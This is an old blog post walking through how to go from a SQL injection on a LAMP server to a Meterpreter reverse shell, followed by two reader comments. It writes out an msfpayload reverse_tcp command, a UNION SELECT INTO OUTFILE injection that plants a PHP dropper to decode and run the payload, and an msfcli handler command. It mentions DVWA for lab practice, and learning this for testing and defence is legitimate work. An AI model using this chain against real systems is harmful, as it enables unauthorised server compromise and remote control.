Tuesday, June 21, 2011

Going from SQL Injection to Reverse Shell Walkthrough

So much for trying to start blogging... I started this blog a few months ago and totally forgot about it... hah! Well, here is the first real post! Enjoy!

Anyway, I was trying to look on the interwebz for a good walkthrough on getting a reverse shell from a SQLi vulnerability on a LAMP system and couldn't find one (unless my google-fu sucks) so here is one that I have put together.  This is assuming a fairly standard/secure configuration where both MySQL and Apache are not running as root and have little privileges and that your MySQL user has write privs to your www directory.
  1. First you need to find your SQL injection vulnerability. :)
  2. Next, we need to generate our payload.  We will use msfpayload for this and base64 encode it twice to ensure that we don't have any bad chars when we send it to the remote server. Change the LHOST option to match your local IP.  You can also specify a specific port with LPORT=<port>.
    1. # msfpayload linux/x86/meterpreter/reverse_tcp LHOST= X | base64 | base64
    2. You will then get your base64 encoded string. Copy it.
  3. We now need to send it to our remote server through the SQL injection vulnerability.  Best place to create the file is in the/tmp directory on the remote server as any account has access to it.
  4. Next we need to create a PHP page to base64 decode the payload and create a new file that the apache user can execute.  This page will read the file with the base64 encoded string that we create earlier, base64 decode it, create a new file in the /tmp directory, chmod the file so its executable, then execute the file.
    1. http://www.bad.site/vulnpage.php?id=-1 UNION SELECT '<?php $myfile = "/tmp/mettemp"; $myfile2 = "/tmp/metexec"; $fh = fopen($myfile, "r"); $data = fread($fh, filesize($myfile)); fclose($fh); $fh2 = fopen($myfile2, "a"); fwrite($fh2, base64_decode(base64_decode($data))); fclose($fh2); system("chmod 777 " . $myfile2); system($myfile2); echo "pwned"; ?>' INTO OUTFILE '/var/www/html/rev_shell.php'
  5. On your local system, you need to then start your handler for the reverse shell.
    1. # msfcli exploit/multi/handler payload=linux/x86/meterpreter/reverse_tcp LHOST= E
  6. Now all you need to do is browse to the rev_shell.php page that you created earlier and enjoy your reverse meterpreter shell.

You will onlyhave the privs of the apache user, but then you can continue with privilege escalation for more fun.

If you want to test this out in a lab environment, you can use the Damn Vulnerable Web App (DVWA) in the Web Security Dojo VM and a BackTrack VM.


  1. I’m asking myself, why two steps? Couldn’t you just write a small php reverse shell script and transfer that with INTO OUTFILE? That should spare one step, shouldn't it?

  2. • Nice and goodarticle. It is very useful for me to learn and understand easily. Thanks forsharing your valuable information and time. Please keepupdatingAzure Online Training